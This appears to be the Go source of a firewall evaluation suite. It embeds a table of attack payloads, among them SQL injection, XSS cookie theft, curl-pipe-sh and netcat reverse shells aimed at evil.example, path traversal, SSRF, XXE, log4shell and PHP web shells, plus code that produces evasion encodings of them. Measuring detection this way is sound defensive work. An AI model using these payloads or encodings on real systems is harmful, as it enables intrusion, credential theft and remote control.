// Package evalcorpus is mamori's evaluation suite: an attack corpus (every
// category × placement × encoding, generated deterministically), a benign
// corpus extracted from real text, and a runner that sends both to any URL
// and measures detection and false-positive rates (checklist V11). It is
// embedded in the binary for `mamori scan` and run by tests/eval.
package evalcorpus

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"unicode"
)

// Case is one request of the suite.
type Case struct {
	// ID names the case in reports ("sqli/query/base64/3").
	ID string `json:"id"`
	// Attack is true for attack cases, false for benign ones.
	Attack bool `json:"attack"`
	// Category is the attack class ("sqli", "xss", ...) or, for benign
	// cases, the kind of text ("prose", "ja", "code", ...).
	Category string `json:"category"`
	// Placement is where in the request the value travels.
	Placement string `json:"placement"`
	// Encoding is how the attack payload was encoded ("plain" for benign).
	Encoding string `json:"encoding"`
	// Value is the (encoded) value placed in the request.
	Value string `json:"value"`
	// Source says where a benign text comes from.
	Source string `json:"source,omitempty"`
}

// Tune reports whether the case is in the suite's tuning part: the same
// rule as the traffic corpus's (TuningPart), on the case's ID, fixed
// before any tuning (issue 11). Rules, thresholds and exclusions are
// chosen on the tuning part only; the rest is held out and only measured.
func (c Case) Tune() bool { return TuningPart(c.ID) }

// Categories are the attack classes, in report order.
var Categories = []string{
	"sqli", "xss", "cmd-unix", "cmd-windows", "traversal", "rfi-ssrf", "ssti",
	"xxe", "ldap", "nosql", "crlf", "php", "java", "perl", "shellshock", "log4shell",
}

// Encodings are the ways a payload is disguised, in report order.
var Encodings = []string{
	"plain", "url", "double-url", "base64", "js-unicode", "html-entities", "mixed-case", "comments",
}

// payloads are well-known attack strings of each category (from public
// WAF test suites and advisories), kept short and varied.
var payloads = map[string][]string{
	"sqli": {
		`' OR '1'='1' -- `,
		`1 UNION SELECT username, password FROM users--`,
		`1' AND SLEEP(5)#`,
		`admin'--`,
		`1; DROP TABLE users--`,
		`' UNION ALL SELECT NULL,@@version,NULL-- -`,
		`1 AND 1=CONVERT(int,(SELECT @@version))`,
		`1' AND extractvalue(1,concat(0x7e,(select user())))-- `,
		`') OR ('a'='a`,
		`1 OR 1=1`,
	},
	"xss": {
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(document.cookie)>`,
		`<svg onload=alert(1)>`,
		`"><script>fetch('//evil.example/'+document.cookie)</script>`,
		`javascript:alert(1)`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<body onload=alert('xss')>`,
		`'><details open ontoggle=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`,
	},
	"cmd-unix": {
		`; cat /etc/passwd`,
		`| id`,
		`$(whoami)`,
		"`uname -a`",
		`&& curl http://evil.example/x.sh | sh`,
		`; nc -e /bin/sh 10.0.0.1 4444`,
		`|| wget http://evil.example/a -O /tmp/a`,
		`; ls -la /`,
		`127.0.0.1; ping -c 3 evil.example`,
	},
	"cmd-windows": {
		`& dir C:\`,
		`| type C:\Windows\win.ini`,
		`& net user`,
		`| whoami /all`,
		`& ipconfig /all`,
		`; cmd.exe /c ver`,
		`& certutil -urlcache -split -f http://evil.example/a.exe a.exe`,
		`| powershell.exe -Command Get-Process`,
	},
	"traversal": {
		`../../../../etc/passwd`,
		`..\..\..\windows\win.ini`,
		`....//....//etc/passwd`,
		`/etc/shadow`,
		`../../../../../proc/self/environ`,
		`php://filter/convert.base64-encode/resource=index.php`,
		`file:///etc/passwd`,
		`../../../../var/log/apache2/access.log`,
	},
	"rfi-ssrf": {
		`http://169.254.169.254/latest/meta-data/`,
		`http://evil.example/shell.txt?`,
		`http://127.0.0.1:6379/`,
		`gopher://127.0.0.1:6379/_FLUSHALL`,
		`http://[::1]/admin`,
		`https://evil.example/x.php?`,
		`http://localhost:8080/server-status`,
		`dict://127.0.0.1:11211/stat`,
		`http://metadata.google.internal/computeMetadata/v1/`,
	},
	"ssti": {
		`{{7*7}}`,
		`{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`,
		`${7*7}`,
		`<%= 7*7 %>`,
		`{{''.__class__.__mro__[1].__subclasses__()}}`,
		`#{7*7}`,
		`{% import os %}{{ os.system('id') }}`,
		`${T(java.lang.Runtime).getRuntime().exec('id')}`,
		`{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}`,
	},
	"xxe": {
		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
		`<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>`,
		`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><foo>&xxe;</foo>`,
		`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
		`<!DOCTYPE x SYSTEM "http://evil.example/evil.dtd"><x/>`,
		`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>`,
	},
	"ldap": {
		`*)(uid=*))(|(uid=*`,
		`admin)(&)`,
		`*)(|(objectClass=*)`,
		`admin*)((|userPassword=*)`,
		`x)(|(password=*))`,
		`*)(&(objectClass=user)(description=*)`,
	},
	"nosql": {
		`{"$ne": null}`,
		`{"$where": "sleep(5000)"}`,
		`{"$regex": ".*"}`,
		`{"username": {"$ne": null}, "password": {"$ne": null}}`,
		`'; return true; var x='`,
		`{"$gt": ""}`,
		`'||'1'=='1`,
	},
	"crlf": {
		"%0d%0aSet-Cookie: session=evil",
		"\r\nSet-Cookie: admin=true",
		"foo\r\nLocation: http://evil.example/",
		"\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
		"%0d%0aX-Injected: 1",
		"test%0d%0a%0d%0a<script>alert(1)</script>",
	},
	"php": {
		`<?php system($_GET['c']); ?>`,
		`phpinfo();`,
		`system('id');`,
		`eval(base64_decode('cGhwaW5mbygpOw=='));`,
		`file_put_contents('shell.php', '<?php eval($_POST[x]);?>');`,
		`assert($_REQUEST['x'])`,
		`passthru('cat /etc/passwd');`,
		`O:8:"stdClass":1:{s:4:"test";s:3:"abc";}`,
	},
	"java": {
		`java.lang.Runtime.getRuntime().exec("id")`,
		`%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}`,
		`new java.lang.ProcessBuilder("id").start()`,
		`rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==`,
		`Class.forName("java.lang.Runtime").getMethod("exec", String.class)`,
		`#{request.getClass().getClassLoader()}`,
	},
	"perl": {
		`system("cat /etc/passwd")`,
		`exec("/bin/sh -i")`,
		`open(F, "|/bin/sh")`,
		`eval { system("id") }`,
		"; print `cat /etc/passwd`;",
		`qx{id}`,
		`use IO::Socket; $s=IO::Socket::INET->new("evil.example:4444")`,
	},
	"shellshock": {
		`() { :; }; /bin/cat /etc/passwd`,
		`() { :;}; echo; /usr/bin/id`,
		`() { _; } >_[$($())] { id; }`,
		`() { :; }; curl http://evil.example/x | sh`,
		`() { ignored; }; /bin/bash -c 'id'`,
	},
	"log4shell": {
		`${jndi:ldap://evil.example/a}`,
		`${jndi:rmi://evil.example:1099/x}`,
		`${${lower:j}ndi:${lower:l}dap://evil.example/a}`,
		`${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}`,
		`${jndi:dns://evil.example}`,
		`${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}`,
	},
}

// caseInsensitive are the categories whose payloads still work with their
// letters' case changed (SQL, HTML, Windows, PHP function names, LDAP
// attribute names, header names, URL schemes, Log4j lookups).
var caseInsensitive = map[string]bool{
	"sqli": true, "xss": true, "cmd-windows": true, "php": true, "ldap": true,
	"crlf": true, "rfi-ssrf": true, "log4shell": true,
}

// encode returns payload p of category cat in encoding enc, and false
// where the encoding is meaningless for the category (the result would no
// longer be an attack, or would be the plain payload again).
func encode(cat, enc, p string) (string, bool) {
	switch enc {
	case "plain":
		return p, true
	case "url":
		return percentEncode(p), true
	case "double-url":
		return percentEncode(percentEncode(p)), true
	case "base64":
		return base64.StdEncoding.EncodeToString([]byte(p)), true
	case "js-unicode":
		var b strings.Builder
		for _, r := range p {
			if r < 0x10000 {
				fmt.Fprintf(&b, `\u%04x`, r)
			} else {
				b.WriteRune(r)
			}
		}
		return b.String(), true
	case "html-entities":
		var b strings.Builder
		for i, r := range p {
			switch {
			case isAlnum(r):
				b.WriteRune(r)
			case i%2 == 0:
				fmt.Fprintf(&b, "&#%d;", r)
			default:
				fmt.Fprintf(&b, "&#x%x;", r)
			}
		}
		return b.String(), true
	case "mixed-case":
		if !caseInsensitive[cat] {
			return "", false
		}
		var b strings.Builder
		n := 0
		for _, r := range p {
			if unicode.IsLetter(r) {
				if n%2 == 0 {
					r = unicode.ToUpper(r)
				} else {
					r = unicode.ToLower(r)
				}
				n++
			}
			b.WriteRune(r)
		}
		s := b.String()
		return s, s != p
	case "comments":
		s := commentVariant(cat, p)
		return s, s != "" && s != p
	}
	return "", false
}

// commentVariant rewrites p with the comments or whitespace its language
// ignores; "" where the category has none.
func commentVariant(cat, p string) string {
	switch cat {
	case "sqli":
		return strings.ReplaceAll(p, " ", "/**/")
	case "xss":
		return strings.ReplaceAll(p, " ", "\n")
	case "cmd-unix":
		return strings.ReplaceAll(p, " ", "${IFS}")
	case "cmd-windows":
		// cmd.exe drops carets: d^ir, n^et u^ser.
		var b strings.Builder
		inWord := 0
		for _, r := range p {
			if unicode.IsLetter(r) {
				inWord++
				if inWord == 2 {
					b.WriteRune('^')
				}
			} else {
				inWord = 0
			}
			b.WriteRune(r)
		}
		return b.String()
	case "traversal":
		return strings.ReplaceAll(p, "/", "//")
	case "ssti":
		r := strings.NewReplacer("{{", "{{ ", "}}", " }}", "${", "${ ", "*", " * ")
		return r.Replace(p)
	case "xxe":
		return strings.ReplaceAll(p, " ", "\n  ")
	case "nosql":
		return strings.ReplaceAll(p, ":", " :\t")
	case "php":
		return strings.ReplaceAll(p, "(", "/**/(")
	case "java", "perl":
		return strings.ReplaceAll(p, "(", " (")
	case "shellshock":
		return strings.Replace(p, "{ ", "{   ", 1)
	}
	return ""
}

func isAlnum(r rune) bool {
	return r < 0x80 && (unicode.IsLetter(r) || unicode.IsDigit(r))
}

// percentEncode escapes every byte but ASCII letters and digits, as
// attack tools do (url.QueryEscape leaves some punctuation alone).
func percentEncode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x80 && isAlnum(rune(c)) {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// Attacks returns the attack corpus: for every category, placement and
// encoding (where the encoding means something for the category and the
// placement can carry the value), perCell payloads of the category chosen
// with a generator seeded by seed. perCell <= 0 takes every payload.
func Attacks(seed uint64, perCell int) []Case {
	rng := rand.New(rand.NewPCG(seed, 0x6d616d6f7269))
	var out []Case
	for _, cat := range Categories {
		list := payloads[cat]
		for _, pl := range Placements {
			for _, enc := range Encodings {
				idx := make([]int, len(list))
				for i := range idx {
					idx[i] = i
				}
				rng.Shuffle(len(idx), func(i, j int) { idx[i], idx[j] = idx[j], idx[i] })
				n := 0
				for _, i := range idx {
					if perCell > 0 && n >= perCell {
						break
					}
					v, ok := encode(cat, enc, list[i])
					if !ok || !pl.carries(v) {
						continue
					}
					out = append(out, Case{
						ID:     fmt.Sprintf("%s/%s/%s/%d", cat, pl.Name, enc, i),
						Attack: true, Category: cat, Placement: pl.Name, Encoding: enc, Value: v,
					})
					n++
				}
			}
		}
	}
	return out
}

// PayloadCount is the number of distinct attack payloads.
func PayloadCount() int {
	n := 0
	for _, l := range payloads {
		n += len(l)
	}
	return n
}
